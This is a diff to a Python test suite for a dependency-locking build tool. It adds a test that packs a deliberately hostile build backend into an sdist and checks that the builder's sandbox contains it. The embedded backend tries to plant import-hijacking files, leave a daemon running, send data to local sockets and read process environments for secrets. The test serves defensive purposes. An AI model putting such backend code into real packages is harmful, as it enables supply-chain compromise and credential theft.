@@ -17,7 +17,7 @@ from click.testing import CliRunner
 from conftest import PY, Keys, build_on_node_recipe, day
 from hostile import INSTALL
 from hostile import manifest as make_manifest
-from sdistkit import backend_wheel, sdist_needing_backend
+from sdistkit import BACKEND, backend_wheel, sdist_needing_backend
 from servers import FakeServer, make_tar_gz, make_wheel
 
 from lockbuild.builder.buildreqs import LEGACY_REQUIRES, build_requires
@@ -156,7 +156,10 @@ def test_an_sdist_whose_build_dependencies_cannot_be_locked_is_refused_by_name(e
     recipe.write_text(RECIPE.replace("lkbuilt", "lklegacy"))
     code, _, stderr = cli("lock", str(recipe), "--out", str(tmp_path / "o"))
     assert code != 0
-    assert "cannot lock the build dependencies of the sdists (lklegacy-1.0.tar.gz needs setuptools>=40.8.0, wheel)" in stderr
+    assert (
+        "cannot lock the build dependencies of the sdists (lklegacy-1.0.tar.gz needs setuptools>=40.8.0, wheel)"
+        in stderr
+    )
 
 
 def test_a_pure_python_sdist_is_built_on_the_builder_the_same_twice(
@@ -164,10 +167,6 @@ def test_a_pure_python_sdist_is_built_on_the_builder_the_same_twice(
 ) -> None:
     """Built here without network from its hashed closure, bundled next to its sdist: two builds from cold
     caches give the same wheel (and the same bundle); the node installs it without building."""
-    from lockbuild.builder.prebuild import sandbox
-
-    if sandbox() is None:
-        pytest.skip("no network namespace here")
     publish(env)
     recipe = tmp_path / "lkbuilt.toml"
     recipe.write_text(RECIPE)
@@ -200,11 +199,9 @@ def test_a_wheel_that_would_not_run_on_the_node_is_left_for_the_node_to_build(tm
     from conftest import PLATFORM as TARGET_PLATFORM
 
     from lockbuild.builder.cache import Cache
-    from lockbuild.builder.prebuild import prebuild, sandbox
+    from lockbuild.builder.prebuild import prebuild
     from lockbuild.target import Target
 
-    if sandbox() is None:
-        pytest.skip("no network namespace here")
     name, data = sdist_needing_backend("lkwin", "1.0", tag="cp311-cp311-win_amd64")
     wheel = backend_wheel("1.0")
     lock = f"toybackend==1.0 --hash=sha256:{hashlib.sha256(wheel[1]).hexdigest()}\n"
@@ -224,11 +221,9 @@ def test_a_build_on_the_builder_has_no_network(tmp_path: Path) -> None:
     from conftest import PLATFORM as TARGET_PLATFORM
 
     from lockbuild.builder.cache import Cache
-    from lockbuild.builder.prebuild import prebuild, sandbox
+    from lockbuild.builder.prebuild import prebuild
     from lockbuild.target import Target
 
-    if sandbox() is None:
-        pytest.skip("no network namespace here")
     with socket.create_server(("127.0.0.1", 0)) as listener:
         port = listener.getsockname()[1]
         name, data = sdist_needing_backend("lknet", "1.0", net_probe=f"127.0.0.1:{port}")
@@ -243,3 +238,178 @@ def test_a_build_on_the_builder_has_no_network(tmp_path: Path) -> None:
     assert got is not None, why
     with zipfile.ZipFile(cache.path(got.sha256)) as z:
         assert z.read("lknet/net.txt") == b"unreachable"
+
+
+# issue 23: a hostile build backend on the builder ----------------------------------------------------
+HOSTILE = """
+import json as _json, os as _os, socket as _socket, time as _time
+
+_plain_build_wheel = build_wheel
+
+
+def _attempt(what, fn):
+    try:
+        return what, "ok: " + str(fn())[:300]
+    except Exception as exc:
+        return what, "failed: " + type(exc).__name__
+
+
+def _write(path, text):
+    _os.makedirs(_os.path.dirname(path), exist_ok=True)
+    with open(path, "w") as f:
+        f.write(text)
+    return path
+
+
+def _tcp(port):
+    s = _socket.create_connection(("127.0.0.1", port), timeout=3)
+    s.sendall(b"exfiltrated")
+    s.close()
+    return "connected"
+
+
+def _unix(path):
+    s = _socket.socket(_socket.AF_UNIX)
+    s.settimeout(3)
+    s.connect(path)
+    s.sendall(b"exfiltrated")
+    return "connected"
+
+
+def _read(path):
+    with open(path, "rb") as f:
+        return f.read().replace(b"\\\\0", b" ").decode("utf-8", "replace")
+
+
+def _daemon(marker):
+    if _os.fork() == 0:
+        _os.setsid()
+        if _os.fork() == 0:  # a daemon detaches from the build's output, so the build ends without it
+            null = _os.open("/dev/null", _os.O_RDWR)
+            for fd in (0, 1, 2):
+                _os.dup2(null, fd)
+            _os.closerange(3, 1024)
+            _os.execvp("sleep", ["sleep", marker])
+        _os._exit(0)
+    return "forked"
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    with open("ATTACK.json") as f:
+        a = _json.load(f)
+    home = _os.environ.get("HOME", "/nonexistent")
+    results = dict([
+        _attempt("getpass", lambda: _write(a["getpass"], "raise SystemExit('planted')\\\\n")),
+        _attempt("pth", lambda: _write(a["pth"], "# planted by a build backend\\\\n")),
+        _attempt("uv_python", lambda: _write(a["uv_python"], "planted = True\\\\n")),
+        _attempt("uv_python_home", lambda: _write(home + "/.local/share/uv/python/cpython-evil/sitecustomize.py", "x")),
+        _attempt("daemon", lambda: _daemon(a["marker"])),
+        _attempt("tcp", lambda: _tcp(a["port"])),
+        _attempt("unix", lambda: _unix(a["unix"])),
+        _attempt("proc1", lambda: _read("/proc/1/environ")),
+        _attempt("parent", lambda: _read("/proc/%d/environ" % a["pid"])),
+        _attempt("ns", lambda: _os.open("/proc/%d/ns/net" % a["pid"], _os.O_RDONLY)),
+    ])
+    pids = [p for p in _os.listdir("/proc") if p.isdigit()]
+    results["all_environ"] = " ".join(_attempt(p, lambda p=p: _read("/proc/%s/environ" % p))[1] for p in pids)
+    dist = _meta()[0].replace("-", "_")
+    with open(dist + "/attacks.json", "w") as f:
+        _json.dump(results, f)
+    return _plain_build_wheel(wheel_directory, config_settings, metadata_directory)
+"""
+
+
+def test_a_hostile_build_backend_meets_the_sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The backend of an sdist built on the builder tries, one by one, what issue 23 found it could do:
+    plant getpass.py beside lockbuild and a .pth in its venv, plant a uv-managed Python, leave a daemon
+    behind, reach a server on this machine's loopback and a Unix socket of the host, and read the
+    environment of lockbuild's processes. Each fails: the files are absent, the servers saw nothing, no
+    process is left, and no secret of ours appears in what it read."""
+    import os
+    import socket
+    import threading
+    import time
+    import zipfile
+
+    from conftest import PLATFORM as TARGET_PLATFORM
+
+    import lockbuild
+    from lockbuild.builder.cache import Cache
+    from lockbuild.builder.prebuild import prebuild
+    from lockbuild.target import Target
+
+    monkeypatch.setenv("LOCKBUILD_KEY_PASSWORD", "canary-passphrase-23")
+    package_dir = Path(lockbuild.__file__).parent
+    targets = {
+        "getpass": package_dir.parent / "getpass.py",  # beside lockbuild: first on sys.path of its script
+        "pth": Path(sys.prefix) / "lib" / f"python{PY}" / "site-packages" / "lockbuild-test-planted.pth",
+        "uv_python": tmp_path / "home" / ".local" / "share" / "uv" / "python" / "cpython-evil" / "sitecustomize.py",
+    }
+    assert not any(p.exists() for p in targets.values())
+    marker = f"{time.time() % 1000 + 9000:.6f}"  # the daemon's argv: sleep <marker>
+    tcp = socket.create_server(("127.0.0.1", 0))
+    tcp.settimeout(0.5)
+    seen: list[bytes] = []
+
+    def serve(listener: socket.socket) -> None:
+        while True:
+            try:
+                conn, _ = listener.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            seen.append(conn.recv(100) or b"(connected)")
+            conn.close()
+
+    unix_path = tmp_path / "agent.sock"
+    unix = socket.socket(socket.AF_UNIX)
+    unix.bind(str(unix_path))
+    unix.listen(1)
+    unix.settimeout(0.5)
+    for listener in (tcp, unix):
+        threading.Thread(target=serve, args=(listener,), daemon=True).start()
+    attack = {k: str(v) for k, v in targets.items()}
+    attack |= {"marker": marker, "port": tcp.getsockname()[1], "unix": str(unix_path), "pid": os.getpid()}
+    pyproject = b'[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
+    name = "lkevil-1.0.tar.gz"
+    data = make_tar_gz({
+        "lkevil-1.0/PKG-INFO": b"Metadata-Version: 2.2\nName: lkevil\nVersion: 1.0\n",
+        "lkevil-1.0/pyproject.toml": pyproject,
+        "lkevil-1.0/evil.py": BACKEND.encode() + HOSTILE.encode(),
+        "lkevil-1.0/ATTACK.json": json.dumps(attack).encode(),
+        "lkevil-1.0/lkevil/__init__.py": b"def main():\n    pass\n",
+    })  # fmt: skip
+    cache = Cache(tmp_path / "c")
+    try:
+        got, why = prebuild(
+            sdist=io.BytesIO(data), sdist_name=name, project="lkevil", version="1.0", deps=[], lock_text="",
+            target=Target.of(PY, TARGET_PLATFORM), as_of=day(2), cache=cache,
+            inherit={"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(tmp_path / "home")},
+        )  # fmt: skip
+        time.sleep(0.5)
+        left = [p for p in os.listdir("/proc") if p.isdigit() and marker.encode() in _cmdline(p)]
+        planted = [str(p) for p in targets.values() if p.exists()]
+    finally:
+        for p in targets.values():
+            p.unlink(missing_ok=True)
+        tcp.close()
+        unix.close()
+    assert got is not None, why
+    with zipfile.ZipFile(cache.path(got.sha256)) as z:
+        results = json.loads(z.read("lkevil/attacks.json"))
+    assert planted == []  # (a), (b): nothing beside lockbuild, in its venv, or in the uv Python directory
+    for key in ("tcp", "unix", "parent", "ns"):
+        assert results[key].startswith("failed"), (key, results[key])
+    assert results["uv_python_home"].startswith("ok: /home/sandbox/")  # a throw-away HOME, gone with it
+    assert results["daemon"] == "ok: forked" and left == []  # (c): the PID namespace took the daemon with it
+    assert seen == []  # (d): neither server saw a byte
+    assert "canary-passphrase-23" not in json.dumps(results)  # (e)
+    assert "LOCKBUILD" not in results["all_environ"] and "LOCKBUILD" not in results["proc1"]
+
+
+def _cmdline(pid: str) -> bytes:
+    try:
+        return Path(f"/proc/{pid}/cmdline").read_bytes()
+    except OSError:
+        return b""
